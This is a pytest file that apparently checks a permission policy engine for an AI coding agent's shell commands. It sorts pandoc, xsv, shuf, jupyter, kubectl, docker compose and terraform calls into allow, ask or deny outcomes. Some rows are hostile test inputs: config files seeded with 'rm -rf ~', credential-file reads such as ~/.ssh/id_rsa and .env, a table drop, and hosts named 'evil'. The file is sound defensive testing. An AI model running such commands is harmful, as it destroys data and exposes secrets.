r"""Probe round 41, benign46 (2026-11-28): everyday commands asked needlessly, each checked
against GTFOBins and the tools' own sources for what it can run or write, on fresh ground
(DevOps reads, data work, the multi-line scripts agents write; benign45 swept Go, Rust, Java,
JS, Python, C/C++ and git). Most of the ~470 calls already held (kubectl/helm/docker reads,
terraform fmt -check/validate, linters, csvkit, sqlite3, builds behind set -euo pipefail,
cd, time, subshells, pipes into tail/head, loops and here-documents into project files).

Fixed, by class:
1. a reader whose one write is the file its output option names (shuf -o F, iconv -o F,
   pandoc -o F, xsv VERB -o F): the command without it is read-only, the write is recorded
   (option_output_files, fx_xsv): a file command (KKADD -> KAADD);
2. pandoc converting Markdown (.md/.markdown, or -f markdown/gfm/commonmark) to a text format
   with listed options (no filter, template, include, defaults file, data dir, citeproc,
   embedded resources, pdf/docx/odt/epub/rtf): printed (KKADD -> AAAAA), or -o TEXT written;
3. xsv's reading verbs (not index, split, partition, -o or any --o prefix, or a stacked -no):
   KKADD -> AAAAA;
4. jupyter nbconvert --to FORMAT NB.ipynb writes NB.EXT (and NB_files/) beside the notebook:
   a file command (KKADD -> KAADD); Jupyter's configuration files in the working directory are
   start-up files: a catastrophe written into them then run is denied (KKADD -> DDDDD), and any
   Python start-up file written then run is not plain (asked in accept_edits); pandoc's words
   stay probed as an unknown program's (PROBED_READERS: --pdf-engine='rm -rf ~' DDDDD);
5. kubectl apply/create --dry-run=client read manifests from standard input (-f -): what
   the pipe's first command printed or a here-document (helm template | kubectl apply
   --dry-run=client -f -: KKADD -> AAAAD); not diff or a server dry run (the text is sent);
6. docker compose's own options before a listing (-f/--file, -p, --profile,
   --project-directory, --env-file; never a remote or standard-input file): KKADD -> AAAAA;
7. ansible-core's programs', duckdb's and jupyter subcommands' --version: KKADD -> AAAAA."""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import call_letters, snap

_SNAP = snap()
_RULES = snap(permissions={"deny": ["Bash(./deploy.sh:*)", "Bash(sh deploy.sh:*)", "Bash(docker compose up:*)"]})

# a reader whose one write is its -o FILE: shuf, iconv, pandoc, xsv (a file command)
READER_OUTPUT = [
    ('shuf -o out.txt in.txt', 'KAADD'),  # was KKADD
    ('shuf -e a b -o x.txt', 'KAADD'),  # was KKADD
    ('shuf in.txt -o in.txt', 'KAADD'),  # was KKADD
    ('shuf -n 5 data.txt', 'AAAAA'),
    ('iconv -f utf-8 -t ascii -o out.txt in.txt', 'KAADD'),  # was KKADD
    ('iconv -f latin1 -t utf-8 --output=out.txt in.txt', 'KAADD'),  # was KKADD
    ('shuf -o ~/.bashrc in.txt', 'KKADD'),
    ('shuf -o /etc/passwd in.txt', 'DDDDD'),
    ('shuf -o out.txt *.txt', 'KKADD'),
    ('iconv -f latin1 -t utf-8 in.txt -o .git/config', 'KKADD'),
    ('iconv -f latin1 -t utf-8 -o out.txt ~/.ssh/id_rsa', 'KKADD'),
    ('shuf -n 100 data.csv > sample.csv', 'KAADD'),
    ('iconv -f latin1 -t utf-8 in.csv > out.csv', 'KAADD'),
    ('shuf -o a.txt -o b.txt in.txt', 'KKADD'),
    ('shuf -oout.txt in.txt', 'KKADD'),
    ('shuf --out=out.txt in.txt', 'KKADD'),
]

# pandoc converting Markdown to a text format: printed, or its -o FILE written
PANDOC = [
    ('pandoc README.md -t html', 'AAAAA'),  # was KKADD
    ('pandoc --from=gfm --to=html5 README.md', 'AAAAA'),  # was KKADD
    ('pandoc -t plain README.md | wc -w', 'AAAAA'),  # was KKADD
    ('pandoc -f gfm -t commonmark README.md', 'AAAAA'),  # was KKADD
    ('pandoc -f markdown notes.txt -t html', 'AAAAA'),  # was KKADD
    ('pandoc docs/*.md -t html', 'AAAAA'),  # was KKADD
    ('pandoc README.md | head', 'AAAAA'),  # was KKADD
    ('pandoc --list-output-formats', 'AAAAA'),  # was KKADD
    ('pandoc --version', 'AAAAA'),
    ('pandoc README.md -o out.html', 'KAADD'),  # was KKADD
    ('pandoc -s README.md -o docs/index.html', 'KAADD'),  # was KKADD
    ('pandoc -s -o docs/api.html docs/api.md', 'KAADD'),  # was KKADD
    ('pandoc README.md --output=x.html', 'KAADD'),  # was KKADD
    ('pandoc --toc -s -M title=Doc README.md -o x.html', 'KAADD'),  # was KKADD
    ('pandoc -f markdown -t rst CHANGELOG.md -o CHANGELOG.rst', 'KAADD'),  # was KKADD
    ('pandoc README.md -t html > out.html', 'KAADD'),  # was KKADD
    ('for f in docs/*.md; do pandoc "$f" -o "${f%.md}.html"; done', 'KAADD'),  # was KKADD
    ('pandoc README.md -o README.pdf', 'KKADD'),
    ('pandoc README.md -o x.docx', 'KKADD'),
    ('pandoc README.md -o x.epub', 'KKADD'),
    ('pandoc README.md -o x.rtf', 'KKADD'),
    ('pandoc -t rtf README.md', 'KKADD'),
    ('pandoc README.md -t html -o x.pdf', 'KKADD'),
    ('pandoc -f rst README.rst', 'KKADD'),
    ('pandoc README.rst -o x.html', 'KKADD'),
    ('pandoc -f markdown ~/.ssh/id_rsa', 'KKADD'),
    ('pandoc README.md ~/.ssh/id_rsa', 'KKADD'),
    ('pandoc -d defaults.yaml README.md', 'KKADD'),
    ('pandoc -s --template=t.html README.md -o x.html', 'KKADD'),
    ('pandoc -H ~/.ssh/id_rsa README.md -o x.html', 'KKADD'),
    ('pandoc --include-in-header=h.html README.md', 'KKADD'),
    ('pandoc --embed-resources -s README.md -o x.html', 'KKADD'),
    ('pandoc --self-contained README.md -o x.html', 'KKADD'),
    ('pandoc --extract-media=. README.md', 'KKADD'),
    ('pandoc --citeproc README.md', 'KKADD'),
    ('pandoc -F ./deploy.sh README.md', 'KKADD'),
    ('pandoc --lua-filter f.lua README.md -o x.html', 'KKADD'),
    ('pandoc https://example.com/x.md -o x.html', 'KKADD'),
    ('pandoc README.md -o x.html -o y.html', 'KKADD'),
    ('pandoc README.md --out=x.html', 'KKADD'),
    ('pandoc README.md -ox.html', 'KKADD'),
    ('pandoc -o x.html -- README.md', 'KKADD'),
    ('pandoc *.md -o book.html', 'KKADD'),
    ('pandoc deploy.sh -o out.html', 'KKADD'),
    ('pandoc README.md -o CLAUDE.md', 'KKADD'),
    ('pandoc README.md -o .git/x.html', 'KKADD'),
    ('pandoc README.md -o ~/.bashrc', 'KKADD'),
    ('pandoc README.md -o /tmp/x.html', 'KKADD'),
    ('pandoc README.md -o .claude/settings.json', 'KKADD'),
    ('pandoc --mathjax=https://x/m.js README.md', 'KKADD'),
    ('pandoc -st html README.md', 'KKADD'),
]

# xsv's reading verbs; index, split, partition and -o/--output (any prefix, a stacked -no) are not
XSV = [
    ('xsv stats data.csv', 'AAAAA'),  # was KKADD
    ('xsv headers data.csv', 'AAAAA'),  # was KKADD
    ('xsv select name data.csv', 'AAAAA'),  # was KKADD
    ('xsv count data.csv', 'AAAAA'),  # was KKADD
    ('xsv headers data.csv | head', 'AAAAA'),  # was KKADD
    ('xsv stats --everything data.csv | xsv table', 'AAAAA'),  # was KKADD
    ('xsv sample 10 data.csv', 'AAAAA'),  # was KKADD
    ('xsv search -s name foo data.csv', 'AAAAA'),  # was KKADD
    ('xsv frequency -s status data.csv -l 5', 'AAAAA'),  # was KKADD
    ('xsv sort -s date data.csv | xsv slice -l 10', 'AAAAA'),  # was KKADD
    ('xsv join id a.csv id b.csv', 'AAAAA'),  # was KKADD
    ('xsv --version', 'AAAAA'),  # was KKADD
    ('xsv --list', 'AAAAA'),  # was KKADD
    ('xsv select name data.csv -o out.csv', 'KAADD'),  # was KKADD
    ('xsv select name data.csv --output=out.csv', 'KAADD'),  # was KKADD
    ('xsv index data.csv', 'KKADD'),
    ('xsv split -s 100 out data.csv', 'KKADD'),
    ('xsv partition col out data.csv', 'KKADD'),
    ('xsv select name data.csv -o out.csv -o b.csv', 'KKADD'),
    ('xsv select -no out.csv name data.csv', 'KKADD'),
    ('xsv select name data.csv --out=out.csv', 'KKADD'),
    ('xsv select name data.csv -o .git/hooks/pre-commit', 'KKADD'),
    ('xsv cat rows *.csv', 'KKADD'),
    ('xsv stats ~/.ssh/id_rsa', 'KKADD'),
    ('xsv headers .env', 'KKADD'),
    ('xsv -o x.csv select name data.csv', 'KKADD'),
    ('xsv count https://x/y.csv', 'KKADD'),
    ('xsv table data.csv | less', 'KKADD'),
    ('qsv stats data.csv', 'KKADD'),
]

# jupyter nbconvert --to FORMAT NB.ipynb writes NB.EXT beside the notebook (and NB_files/)
NBCONVERT = [
    ('jupyter nbconvert --to script nb.ipynb', 'KAADD'),  # was KKADD
    ('jupyter nbconvert --to=script notebooks/nb.ipynb', 'KAADD'),  # was KKADD
    ('jupyter nbconvert --to html nb.ipynb', 'KAADD'),  # was KKADD
    ('jupyter nbconvert --to markdown nb.ipynb', 'KAADD'),  # was KKADD
    ('jupyter nbconvert --to latex nb.ipynb', 'KAADD'),  # was KKADD
    ('jupyter nbconvert --to script --no-prompt nb.ipynb', 'KAADD'),  # was KKADD
    ('jupyter nbconvert --to markdown --no-input report.ipynb', 'KAADD'),  # was KKADD
    ('jupyter nbconvert --to notebook --execute nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --execute --to script nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script --stdout nb.ipynb', 'AAAAD'),   # was KKADD (round 42 benign47: printed, the build's trust)
    ('jupyter nbconvert --to pdf nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to webpdf nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script *.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script analysis/*.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script ~/nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script /tmp/nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script .git/nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to markdown .git/x.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script nb.ipynb --output-dir=/tmp', 'KKADD'),
    ('jupyter nbconvert --to script nb.ipynb --output x', 'KKADD'),
    ('jupyter nbconvert --to script nb.ipynb --template t', 'KKADD'),
    ('jupyter nbconvert --to html --embed-images nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script --NbConvertApp.postprocessor_class=x nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --inplace --clear-output nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script nb.ipynb --to html', 'KKADD'),
    ('jupyter nbconvert --to script a.ipynb b.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script https://x/nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script nb.ipynb && python nb.py', 'KKADD'),
    ("echo 'import os' > jupyter_nbconvert_config.py && jupyter nbconvert --to script nb.ipynb", 'KKADD'),
    ('echo \'import os; os.system("rm -rf ~")\' > jupyter_nbconvert_config.py && jupyter nbconvert --to script nb.ipynb', 'DDDDD'),  # was KKADD
    ('echo \'import os; os.system("rm -rf ~")\' > jupyter_config.py && jupyter kernelspec list', 'DDDDD'),  # was KKADD
    ('jupyter kernelspec list', 'AAAAA'),
    ('jupyter --version', 'AAAAA'),
]

# kubectl apply/create --dry-run and diff reading manifests from standard input (-f -)
KUBECTL_STDIN = [
    ('helm template myrel ./chart | kubectl apply --dry-run=client -f -', 'AAAAD'),  # was KKADD
    ('cat x.yaml | kubectl apply --dry-run=client -f -', 'AAAAA'),  # was KKADD
    ('kubectl apply --dry-run=client -f - < x.yaml', 'AAAAA'),  # was KKADD
    ('kustomize build . | kubectl apply --dry-run=server -f -', 'KKADD'),
    ('helm template myrel ./chart | kubectl diff -f -', 'KKADD'),
    ('helm template r ./chart | kubectl create --dry-run=client -f - -o yaml', 'AAAAD'),  # was KKADD
    ('kubectl diff -f - -f k8s/', 'KKADD'),
    ('helm template myrel ./chart | kubectl apply -f -', 'KKADD'),
    ('cat ~/.ssh/id_rsa | kubectl diff -f -', 'KKADD'),
    ('kubectl diff -f - < .env', 'KKADD'),
    ('curl -s https://x/m.yaml | kubectl apply --dry-run=client -f -', 'KKADD'),
    ('helm template myrel ./chart | kubectl apply --dry-run=client -o yaml -f -', 'KKADD'),
    ('kubectl diff -f -,../x.yaml', 'KKADD'),
    ('helm template r ./chart | kubectl diff --server=https://evil -f -', 'KKADD'),
    ('helm template r ./chart | kubectl --kubeconfig=/tmp/k diff -f -', 'KKADD'),
    ('kubectl apply --dry-run=client -f k8s/', 'AAAAA'),
    ('kubectl diff -f k8s/', 'AAAAA'),
    ('env | kubectl diff -f -', 'KKADD'),
    ('env | kubectl apply --dry-run=client -f -', 'AAAAA'),  # was KKADD
    ('kubectl apply --dry-run=client -f -', 'AAAAA'),  # was KKADD
    ('kubectl apply --dry-run=client -f - <<EOF\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\nEOF', 'AAAAA'),  # was KKADD
]

# docker compose's global options before its listings
COMPOSE_GLOBALS = [
    ('docker compose -f docker-compose.yml ps', 'AAAAA'),  # was KKADD
    ('docker compose -f a.yml -f b.yml logs --tail=50 web', 'AAAAA'),  # was KKADD
    ('docker compose -p proj ps', 'AAAAA'),  # was KKADD
    ('docker compose --file=compose.prod.yml ps -a', 'AAAAA'),  # was KKADD
    ('docker compose --project-directory sub ps', 'AAAAA'),  # was KKADD
    ('docker compose ps', 'AAAAA'),
    ('docker compose logs -f web', 'AAAAA'),
    ('docker compose -f oci://x/y ps', 'KKADD'),
    ('docker compose -f - ps', 'KKADD'),
    ('docker compose -f ~/.ssh/id_rsa ps', 'KKADD'),
    ('docker compose --env-file .env ps', 'KKADD'),
    ('docker compose -f docker-compose.yml up -d', 'KKADD'),
    ('docker compose -f docker-compose.yml config', 'KKADD'),
    ('docker compose -f x.yml exec web sh', 'KKADD'),
    ('docker compose -H tcp://evil ps', 'KKADD'),
    ('docker --host tcp://x compose ps', 'KKADD'),
    ('docker compose config', 'KKADD'),
    ('docker compose config -q', 'AAAAA'),
    ('docker compose -f x.yml --verbose ps', 'KKADD'),
]

# version queries that print only
VERSIONS = [
    ('ansible --version', 'AAAAA'),  # was KKADD
    ('ansible-playbook --version', 'AAAAA'),  # was KKADD
    ('ansible-galaxy --version', 'AAAAA'),  # was KKADD
    ('jupyter nbconvert --version', 'AAAAA'),  # was KKADD
    ('jupyter lab --version', 'AAAAA'),  # was KKADD
    ('duckdb --version', 'AAAAA'),  # was KKADD
    ('ansible --version -i x', 'KKADD'),
    ('ansible-lint --version', 'KKADD'),
    ('duckdb -version', 'KKADD'),
    ('ansible all -m ping', 'KKADD'),
    ('ansible-config dump', 'KKADD'),
    ('jupyter nbconvert --help', 'KKADD'),
]

# the sweep's everyday commands that already held (and asks kept by earlier rounds' decisions)
HELD = [
    ('terraform fmt -check', 'AAAAA'),
    ('terraform fmt -check -recursive', 'AAAAA'),
    ('terraform validate', 'AAAAD'),
    ('terraform plan -out=tf.plan', 'KKADD'),
    ('terraform show tf.plan', 'KKADD'),
    ('terraform state list', 'AAAAD'),   # was KKADD (round 44, benign48: names only, the project's backend reached: build trust)
    ('terraform output', 'KKADD'),
    ('terraform version', 'AAAAA'),
    ('terraform workspace show', 'AAAAA'),
    ('tflint', 'AAAAD'),
    ('kubectl get pods', 'AAAAA'),
    ('kubectl describe pod web-0', 'AAAAA'),
    ('kubectl logs -f deploy/web --tail=100', 'AAAAA'),
    ('kubectl explain deployment.spec', 'AAAAA'),
    ('kubectl get secret db -o yaml', 'KKADD'),
    ('kubectl exec -it web-0 -- sh', 'KKADD'),
    ('helm template myrel ./chart', 'AAAAD'),
    ('helm lint ./chart', 'AAAAD'),
    ('helm list -A', 'AAAAA'),
    ('helm get values myrel', 'KKADD'),
    ('docker ps', 'AAAAA'),
    ('docker images', 'AAAAA'),
    ('docker inspect web', 'AAAAA'),
    ('docker logs --tail 100 web', 'AAAAA'),
    ('kustomize build overlays/prod', 'AAAAD'),
    ('ansible-lint', 'KKADD'),
    ('hadolint Dockerfile', 'AAAAD'),
    ('shellcheck scripts/*.sh', 'AAAAA'),
    ('yamllint .', 'AAAAD'),
    ('actionlint', 'AAAAD'),
    ('python -m pip list --outdated', 'AAAAD'),
    ('pip list --outdated', 'AAAAA'),
    ('conda list', 'AAAAA'),
    ('conda env list', 'AAAAA'),
    ("duckdb -c 'select count(*) from data.csv'", 'KKADD'),
    ("sqlite3 db.sqlite '.tables'", 'AAAAA'),
    ("sqlite3 db.sqlite 'select * from users limit 10'", 'AAAAD'),
    ('sqlite3 db.sqlite "select writefile(\'x.sh\', \'rm -rf ~\')"', 'KKADD'),
    ('sqlite3 db.sqlite "select load_extension(\'./x.so\')"', 'KKADD'),
    ("psql -c 'select 1'", 'KKADD'),
    ("psql -c 'drop table users'", 'DDDDD'),
    ('csvlook data.csv', 'AAAAA'),
    ('csvstat data.csv', 'AAAAA'),
    ("csvsql --query 'select * from data' data.csv", 'KKADD'),
    ('mlr --icsv --opprint cat data.csv', 'AAAAD'),   # was KKADD (round 44, benign48: ./.mlrrc cannot hold --prepipe/--load: build trust)
    ('mlr --icsv --opprint put \'$z = system("id")\' data.csv', 'KKADD'),
    ('mkdir -p a/b && touch a/b/c.py', 'KAADD'),
    ('set -euo pipefail; make test', 'AAAAD'),
    ('cd subdir && make test', 'AAAAD'),
    ('source .venv/bin/activate && pytest', 'AAAAD'),
    ('time make', 'AAAAD'),
    ('make 2>&1 | tail -20', 'AAAAD'),
    ('npm test -- --watch=false 2>&1 | head -50', 'AAAAD'),
    ('( cd web && npm ci )', 'AAAAD'),
    ('for f in src/*.py; do python -m py_compile "$f"; done', 'AAAAD'),
    ('for f in tests/*.py; do echo "$f"; wc -l "$f"; done', 'AAAAA'),
    ('if [ -f Makefile ]; then make; fi', 'AAAAD'),
    ("cat > src/x.py <<'EOF'\ndef f():\n    return 1\nEOF", 'KAADD'),
    ("mkdir -p src/pkg && cat > src/pkg/__init__.py <<'EOF'\nEOF", 'KAADD'),
    ('set -euo pipefail\ncd web\nnpm ci\nnpm test -- --watch=false', 'AAAAD'),
    ("cat > src/x.sh <<'EOF'\n#!/bin/sh\nrm -rf ~\nEOF", 'KKADD'),
    ("cat > .github/workflows/ci.yml <<'EOF'\non: push\nEOF", 'KKADD'),
    ("cat > tests/test_x.py <<'EOF'\nfrom src.x import f\nEOF\npytest -q tests/test_x.py", 'KKADD'),
]


# under deny rules: the script a rule names, read by pandoc or xsv, is only read; a rule on
# docker compose up meets its spelling with global options
UNDER_RULES = [
    ('pandoc -f markdown deploy.sh', 'AAAAA'),
    ('pandoc deploy.sh -o out.html', 'KKADD'),
    ('pandoc -F ./deploy.sh README.md', 'DDDDD'),
    ('pandoc README.md -o deploy.sh', 'KKADD'),
    ('xsv cat rows deploy.sh', 'AAAAA'),
    ('docker compose -f x.yml up -d', 'DDDDD'),
    ('docker compose -f x.yml ps', 'AAAAA'),
]


_TABLES = {"reader_output": READER_OUTPUT, "pandoc": PANDOC, "xsv": XSV, "nbconvert": NBCONVERT,
           "kubectl_stdin": KUBECTL_STDIN, "compose_globals": COMPOSE_GLOBALS, "versions": VERSIONS,
           "held": HELD}
_ROWS = [(k, call, exp) for k, rows in _TABLES.items() for call, exp in rows]


@pytest.mark.parametrize("table,call,expected", _ROWS, ids=[f"{k}:{c}" for k, c, _ in _ROWS])
def test_round41_benign46(table, call, expected):
    assert call_letters(_SNAP, call) == expected


@pytest.mark.parametrize("call,expected", UNDER_RULES, ids=[r[0] for r in UNDER_RULES])
def test_round41_benign46_under_rules(call, expected):
    assert call_letters(_RULES, call) == expected
